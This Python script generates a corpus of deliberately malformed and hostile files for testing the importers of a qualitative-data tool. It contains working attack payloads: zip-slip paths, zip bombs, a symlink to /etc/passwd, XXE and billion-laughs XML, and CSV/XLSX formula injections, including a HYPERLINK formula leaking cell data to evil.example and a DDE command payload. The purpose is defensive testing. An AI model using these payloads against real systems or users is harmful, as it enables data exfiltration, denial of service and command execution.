#!/usr/bin/python3
"""Builds the hostile corpus of the importers into the folder given as the
only argument: one file per case and per format (.qdpx, .xlsx, .csv, .json).
Small well-formed files come first (good.*); every hostile file is one of them
with exactly one thing wrong, so the error a test sees is the one it expects.

The zip-level attacks reuse the byte builders of tests/safeio/make_hostile_zips.py
(which unit-tests the core's ZipReader); here the same attacks are aimed at the
members each importer actually reads. Nothing hostile lives in the repository.
The expectations are in check_hostile.py."""

import json
import os
import sys
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "safeio"))
import make_hostile_zips as z  # noqa: E402  (build, entry, overlap_bomb, raw_deflate)

OUT = sys.argv[1] if len(sys.argv) > 1 else "hostile"

# ---------------------------------------------------------------- helpers

def write(name, data):
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)


def zipfile_bytes(members):
    """members: list of (name, bytes) -> a plain, well-formed zip (deflate)."""
    return z.build([z.entry(n, d) for n, d in members])


G = ["c0ffee00-0000-4000-8000-%012d" % i for i in range(20)]
TEXT = "The hotline received 1,341 calls in 2020. Shelters opened in Bishkek and Osh."

# ---------------------------------------------------------------- REFI-QDA

def qde(codes=None, selections=None, extra_sources="", decl=True, prolog="", users=None):
    codes = codes if codes is not None else (
        '<Code guid="%s" name="Hotline" isCodable="true"/>' % G[1] +
        '<Code guid="%s" name="Shelter" isCodable="true"/>' % G[2])
    if selections is None:
        selections = sel(G[4], 4, 12, G[1]) + sel(G[5], 51, 59, G[2])
    users = users if users is not None else '<User guid="%s" name="Coder"/>' % G[0]
    return ((('<?xml version="1.0" encoding="utf-8"?>\n' if decl else "") + prolog +
             '<Project xmlns="urn:QDA-XML:project:1.0" name="hostile" origin="qdx hostile tests">'
             '<Users>%s</Users><CodeBook><Codes>%s</Codes></CodeBook><Sources>'
             '<TextSource guid="%s" name="report" plainTextPath="internal://%s.txt">%s</TextSource>%s'
             '</Sources></Project>\n') % (users, codes, G[3], G[3], selections, extra_sources))


def sel(guid, start, end, code, user=None):
    u = ' creatingUser="%s"' % user if user else ""
    return ('<PlainTextSelection guid="%s" name="s" startPosition="%d" endPosition="%d"%s>'
            '<Coding guid="%s"><CodeRef targetGUID="%s"/></Coding></PlainTextSelection>') % (
                guid, start, end, u, "c0d1" + guid[4:], code)


def qdpx(project_xml, more=(), text=TEXT):
    if isinstance(project_xml, str):
        project_xml = project_xml.encode("utf-8")
    return [("project.qde", project_xml), ("sources/%s.txt" % G[3], text.encode("utf-8"))] + list(more)


def zip_attacks(prefix, members, target):
    """The zip-level attacks against an archive whose importer reads `target`.
    members: the good archive's (name, bytes) list."""
    good = [z.entry(n, d) for n, d in members]
    hello = b"hello\n"
    for tag, evil in [("slip_dotdot", "../evil.txt"), ("slip_absolute", "/tmp/evil.txt"),
                      ("slip_drive", "C:/evil.txt"), ("slip_backslash", "sources\\..\\..\\evil.txt")]:
        write("%s_%s.%s" % (prefix, tag, EXT[prefix]), z.build(good + [z.entry(evil, hello)]))
    # The importer's own member twice, differing in case only.
    write("%s_case_collision.%s" % (prefix, EXT[prefix]),
          z.build(good + [z.entry(target.upper(), dict(members)[target])]))
    # An honest bomb beside the real members: 200 MiB of zeros (~1000:1).
    write("%s_bomb.%s" % (prefix, EXT[prefix]), z.build(good + [z.entry("zeros.bin", bytes(200 << 20))]))
    # Overlapping entries: 150 members sharing one 1 MiB kernel.
    rnd = bytes((i * 2654435761 >> 13) & 0xFF for i in range(1 << 20))
    write("%s_bomb_overlap.%s" % (prefix, EXT[prefix]), z.overlap_bomb(rnd, 150, 8))
    # The target member declares 100 bytes and inflates to more, CRC of the real data.
    lie = [dict(e) for e in good]
    for e in lie:
        if e["name"] == target:
            e["usize"] = 100
    write("%s_size_lie.%s" % (prefix, EXT[prefix]), z.build(lie))
    bad = [dict(e) for e in good]
    for e in bad:
        if e["name"] == target:
            e["crc"] ^= 0x5A5A5A5A
    write("%s_bad_crc.%s" % (prefix, EXT[prefix]), z.build(bad))
    enc = [dict(e) for e in good]
    for e in enc:
        if e["name"] == target:
            e["flags"] = 1  # traditional PKWARE encryption, no password given
    write("%s_encrypted.%s" % (prefix, EXT[prefix]), z.build(enc))
    write("%s_symlink.%s" % (prefix, EXT[prefix]),
          z.build(good + [z.entry("link.txt", b"/etc/passwd", method=0, external=0o120777 << 16)]))
    # More members than the default budget (100,000).
    # (Over 65,535 members needs ZIP64 end records: zipfile writes them.)
    path = os.path.join(OUT, "%s_too_many_entries.%s" % (prefix, EXT[prefix]))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
        for n, d in members:
            zf.writestr(n, d)
        for i in range(100001):
            zf.writestr("m/%06d" % i, b"")


EXT = {"qdpx": "qdpx", "xlsx": "xlsx", "bundle": "zip"}

XXE = ('<!DOCTYPE Project [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n')
EXTERNAL_DTD = '<!DOCTYPE Project SYSTEM "http://127.0.0.1:9/evil.dtd">\n'
LAUGHS = ('<!DOCTYPE Project [<!ENTITY a "ha">' +
          "".join('<!ENTITY %s "%s">' % (chr(98 + i), ("&%s;" % chr(97 + i)) * 10) for i in range(9)) +
          ']>\n')


def make_refi():
    members = qdpx(qde())
    write("good.qdpx", zipfile_bytes(members))
    zip_attacks("qdpx", members, "project.qde")
    # XML attacks inside project.qde.
    write("qdpx_xxe.qdpx", zipfile_bytes(qdpx(qde(prolog=XXE, codes='<Code guid="%s" name="&xxe;" isCodable="true"/>' % G[1]))))
    write("qdpx_external_dtd.qdpx", zipfile_bytes(qdpx(qde(prolog=EXTERNAL_DTD))))
    write("qdpx_billion_laughs.qdpx", zipfile_bytes(qdpx(qde(prolog=LAUGHS, codes='<Code guid="%s" name="&j;" isCodable="true"/>' % G[1]))))
    depth = 10 ** 6
    deep = ("<Description>" * depth) + ("</Description>" * depth)
    # Stored, not deflated: the ratio budget would refuse it before the parser sees it.
    deep_qde = qde(codes='<Code guid="%s" name="deep" isCodable="true">%s</Code>' % (G[1], deep)).encode()
    write("qdpx_deep_xml.qdpx", z.build([z.entry("project.qde", deep_qde, method=0),
                                         z.entry("sources/%s.txt" % G[3], TEXT.encode())]))
    bad = qde().encode("utf-8").replace(b'name="Hotline"', b'name="Hot\xc3\x28line"')
    write("qdpx_invalid_utf8.qdpx", zipfile_bytes(qdpx(bad)))
    # Model-level attacks.
    write("qdpx_dangling_guid.qdpx", zipfile_bytes(qdpx(qde(selections=sel(G[4], 4, 12, G[19])))))
    write("qdpx_undeclared_user.qdpx", zipfile_bytes(qdpx(qde(selections=sel(G[4], 4, 12, G[1], user=G[18])))))
    write("qdpx_duplicate_guid.qdpx", zipfile_bytes(qdpx(qde(
        codes='<Code guid="%s" name="Hotline" isCodable="true"/><Code guid="%s" name="Twin" isCodable="true"/>'
              '<Code guid="%s" name="Shelter" isCodable="true"/>' % (G[1], G[1], G[2])))))
    write("qdpx_span_out_of_range.qdpx", zipfile_bytes(qdpx(qde(selections=sel(G[4], 70, 5000, G[1]) + sel(G[5], 4, 12, G[2])))))
    write("qdpx_span_inverted.qdpx", zipfile_bytes(qdpx(qde(selections=sel(G[4], 40, 10, G[1]) + sel(G[5], 4, 12, G[2])))))
    write("qdpx_span_negative.qdpx", zipfile_bytes(qdpx(qde(selections=sel(G[4], -5, 10, G[1])))))
    write("qdpx_span_huge.qdpx", zipfile_bytes(qdpx(qde(selections=sel(G[4], 0, 99999999999999999999, G[1])))))
    # A project whose plain text is missing from the archive.
    write("qdpx_missing_source.qdpx", zipfile_bytes([("project.qde", qde().encode())]))


# ---------------------------------------------------------------- JSON

def project(themes=None, excerpts=None, text=TEXT, extra=None):
    p = {"qdx": "1.0", "project": {"name": "hostile"},
         "users": [{"id": "u1", "name": "Coder"}],
         "themes": themes if themes is not None else [{"id": "t1", "name": "Hotline"}, {"id": "t2", "name": "Shelter", "parent": "t1"}],
         "sources": [{"id": "s1", "name": "report", "kind": "text", "text": text}],
         "excerpts": excerpts if excerpts is not None else [
             {"id": "e1", "source": "s1", "anchor": {"type": "text", "start": 4, "end": 12},
              "codings": [{"id": "c1", "theme": "t1", "creator": "u1"}]},
             {"id": "e2", "source": "s1", "anchor": {"type": "text", "start": 51, "end": 59},
              "codings": [{"id": "c2", "theme": "t2"}]}]}
    if extra:
        p.update(extra)
    return json.dumps(p, ensure_ascii=False, indent=1)


def exc(eid, start, end, theme="t1", source="s1"):
    return {"id": eid, "source": source, "anchor": {"type": "text", "start": start, "end": end},
            "codings": [{"id": "c" + eid, "theme": theme}]}


def make_json():
    write("good.json", project())
    depth = 10 ** 6
    write("json_deep.json", '{"qdx":"1.0","project":{"name":"deep","ext":{"x:deep":' + "[" * depth + "]" * depth + "}}}")
    # CVE-2024-38517 and friends, in a numeric position and in free ext values.
    write("json_crash_number_position.json", project().replace('"start": 4', '"start": 0.00000000001e-2147483639', 1))
    write("json_crash_number_ext.json", project(extra={"ext": {"x:n": "@N@"}}).replace('"@N@"', "[0.00000000001e-2147483639, 1e-2147483648, 1e400, -1e400, 18446744073709551616]"))
    write("json_invalid_utf8.json", project().encode("utf-8").replace(b'"Hotline"', b'"Hot\xc3\x28line"'))
    write("json_invalid_utf8_escape.json", project().replace('"Hotline"', '"Hot\\ud800line"'))
    write("json_dangling_theme.json", project(excerpts=[exc("e1", 4, 12, theme="nope")]))
    write("json_dangling_source.json", project(excerpts=[exc("e1", 4, 12, source="nope")]))
    write("json_dangling_parent.json", project(themes=[{"id": "t1", "name": "A", "parent": "nope"}], excerpts=[exc("e1", 4, 12)]))
    write("json_cyclic_themes.json", project(themes=[{"id": "t1", "name": "A", "parent": "t3"},
                                                     {"id": "t2", "name": "B", "parent": "t1"},
                                                     {"id": "t3", "name": "C", "parent": "t2"}]))
    write("json_self_parent.json", project(themes=[{"id": "t1", "name": "A", "parent": "t1"},
                                                   {"id": "t2", "name": "B", "parent": "t1"}]))
    write("json_duplicate_ids.json", project(themes=[{"id": "t1", "name": "A"}, {"id": "t1", "name": "B"},
                                                     {"id": "t2", "name": "C"}]))
    write("json_span_out_of_range.json", project(excerpts=[exc("e1", 70, 5000), exc("e2", 4, 12, "t2")]))
    write("json_span_inverted.json", project(excerpts=[exc("e1", 40, 10), exc("e2", 4, 12, "t2")]))
    write("json_span_negative.json", project(excerpts=[exc("e1", -5, 10)]))


# ---------------------------------------------------------------- CSV (the seed study's quote sheet)

CSV_HEAD = "Source,Verbatim quote,Report source\r\n"


def make_csv():
    rows = ['"Winrock International, 2022",Shelters opened in Bishkek.,https://example.org/a\r\n',
            '"USAID, 2021",The hotline received calls.,https://example.org/b\r\n']
    write("good.csv", CSV_HEAD + "".join(rows))
    write("csv_invalid_utf8.csv", (CSV_HEAD + rows[0]).encode() + b'"USAID, 2021",The hot\xc3\x28line \xff\xfe received calls.,https://example.org/b\r\n')
    formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+2", "-2+3", "@SUM(1+1)", "\tTAB", "=cmd|' /C calc'!A0"]
    body = "".join('"Src %d","%s",https://example.org/%d\r\n' % (i, f.replace('"', '""'), i) for i, f in enumerate(formulas))
    write("csv_formulas.csv", CSV_HEAD + body)
    long_cell = ("Forty thousand characters of one quote. " * 1000)[:40000]
    write("csv_long_cell.csv", CSV_HEAD + '"Src","%s",https://example.org/x\r\n' % long_cell)
    write("csv_million_columns.csv", ",".join("c%d" % i for i in range(10 ** 6)) + "\r\n")
    with open(os.path.join(OUT, "csv_huge_field.csv"), "wb") as f:
        f.write(CSV_HEAD.encode() + b'"Src","')
        chunk = b"x" * (1 << 20)
        for _ in range(100):
            f.write(chunk)
        f.write(b'",https://example.org/x\r\n')
    write("csv_unterminated_quote.csv", CSV_HEAD + '"Src","never closed,https://example.org/x\r\n')


# ---------------------------------------------------------------- XLSX

def cell_ref(col, row):
    s = ""
    col += 1
    while col:
        col, r = divmod(col - 1, 26)
        s = chr(65 + r) + s
    return "%s%d" % (s, row)


def xlsx_members(rows, sheet_prolog="", shared_extra=b"", formula_cells=None):
    """rows: list of lists of strings (row 1 = header), written as shared strings."""
    strings = []
    index = {}
    def sid(s):
        if s not in index:
            index[s] = len(strings)
            strings.append(s)
        return index[s]
    xml_rows = []
    for r, row in enumerate(rows, 1):
        cells = "".join('<c r="%s" t="s"><v>%d</v></c>' % (cell_ref(c, r), sid(v)) for c, v in enumerate(row))
        if formula_cells and r in formula_cells:
            cells += formula_cells[r]
        xml_rows.append('<row r="%d">%s</row>' % (r, cells))
    def esc(s):
        return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    sst = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="%d" uniqueCount="%d">' % (len(strings), len(strings)) +
           "".join('<si><t xml:space="preserve">%s</t></si>' % esc(s) for s in strings)).encode() + shared_extra + b"</sst>"
    sheet = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + sheet_prolog +
             '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>' +
             "".join(xml_rows) + "</sheetData></worksheet>").encode()
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
          '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
          '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
          '</Types>').encode()
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
            '</Relationships>').encode()
    wb = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
          '<sheets><sheet name="Quotes" sheetId="1" r:id="rId1"/></sheets></workbook>').encode()
    wbrels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
              '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
              '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
              '</Relationships>').encode()
    return [("[Content_Types].xml", ct), ("_rels/.rels", rels), ("xl/workbook.xml", wb),
            ("xl/_rels/workbook.xml.rels", wbrels), ("xl/worksheets/sheet1.xml", sheet),
            ("xl/sharedStrings.xml", sst)]


XLSX_ROWS = [["Source", "Verbatim quote", "Report source"],
             ["Winrock International, 2022", "Shelters opened in Bishkek.", "https://example.org/a"],
             ["USAID, 2021", "The hotline received calls.", "https://example.org/b"]]


def make_xlsx():
    members = xlsx_members(XLSX_ROWS)
    write("good.xlsx", zipfile_bytes(members))
    zip_attacks("xlsx", members, "xl/worksheets/sheet1.xml")
    write("xlsx_doctype.xlsx", zipfile_bytes(xlsx_members(XLSX_ROWS, sheet_prolog=XXE.replace("Project", "worksheet"))))
    write("xlsx_billion_laughs.xlsx", zipfile_bytes(xlsx_members(XLSX_ROWS, sheet_prolog=LAUGHS.replace("Project", "worksheet"))))
    # A real formula cell (cached value "click") and quote texts that look like formulas.
    hyper = '<c r="D%d" t="str"><f>HYPERLINK("http://evil.example/?leak="&amp;A1,"click")</f><v>click</v></c>'
    rows = XLSX_ROWS[:1] + [["Src %d" % i, f, "https://example.org/%d" % i] for i, f in
                            enumerate(['=HYPERLINK("http://evil.example/","click")', "+1+2", "@SUM(1+1)", "-2+3"])]
    write("xlsx_formulas.xlsx", zipfile_bytes(xlsx_members(rows, formula_cells={2: hyper % 2})))
    # A numeric cell whose value is not a number (what a formula cell without t="str" looks like).
    write("xlsx_numeric_cell_text.xlsx", zipfile_bytes(xlsx_members(rows, formula_cells={2: (hyper % 2).replace(' t="str"', '')})))
    long_cell = ("Forty thousand characters of one quote. " * 1000)[:40000]
    write("xlsx_long_cell.xlsx", zipfile_bytes(xlsx_members(XLSX_ROWS[:2] + [["Src", long_cell, "https://example.org/x"]])))
    write("xlsx_invalid_utf8.xlsx", zipfile_bytes(xlsx_members(XLSX_ROWS, shared_extra=b"<si><t>bad \xc3\x28 byte</t></si>")))
    deep = ("<r>" * 100000) + ("</r>" * 100000)
    write("xlsx_deep_xml.xlsx", zipfile_bytes(xlsx_members(XLSX_ROWS, shared_extra=("<si>%s</si>" % deep).encode())))


# ---------------------------------------------------------------- CSV bundle (.zip of tidy tables)

def manifest(files):
    return json.dumps({"format": "qdx-tables", "version": 1, "layout": "tidy", "formulaGuard": True,
                       "delimiter": ",", "tables": [{"name": n, "file": f} for n, f in files]}).encode()


def make_bundle():
    codings = (CSV_HEAD + '"USAID, 2021",The hotline received calls.,https://example.org/b\r\n').encode()
    members = [("qdx-tables.json", manifest([("codings", "codings.csv")])), ("codings.csv", codings)]
    write("good.zip", zipfile_bytes(members))
    zip_attacks("bundle", members, "codings.csv")
    # The manifest names a member outside the archive.
    write("bundle_manifest_slip.zip", zipfile_bytes([("qdx-tables.json", manifest([("codings", "../../etc/passwd")])),
                                                     ("codings.csv", codings)]))
    write("bundle_manifest_not_json.zip", zipfile_bytes([("qdx-tables.json", b'{"format": "qdx-tables", "tables": [}'),
                                                         ("codings.csv", codings)]))


def main():
    os.makedirs(OUT, exist_ok=True)
    make_bundle()
    make_refi()
    make_json()
    make_csv()
    make_xlsx()
    return 0


if __name__ == "__main__":
    sys.exit(main())
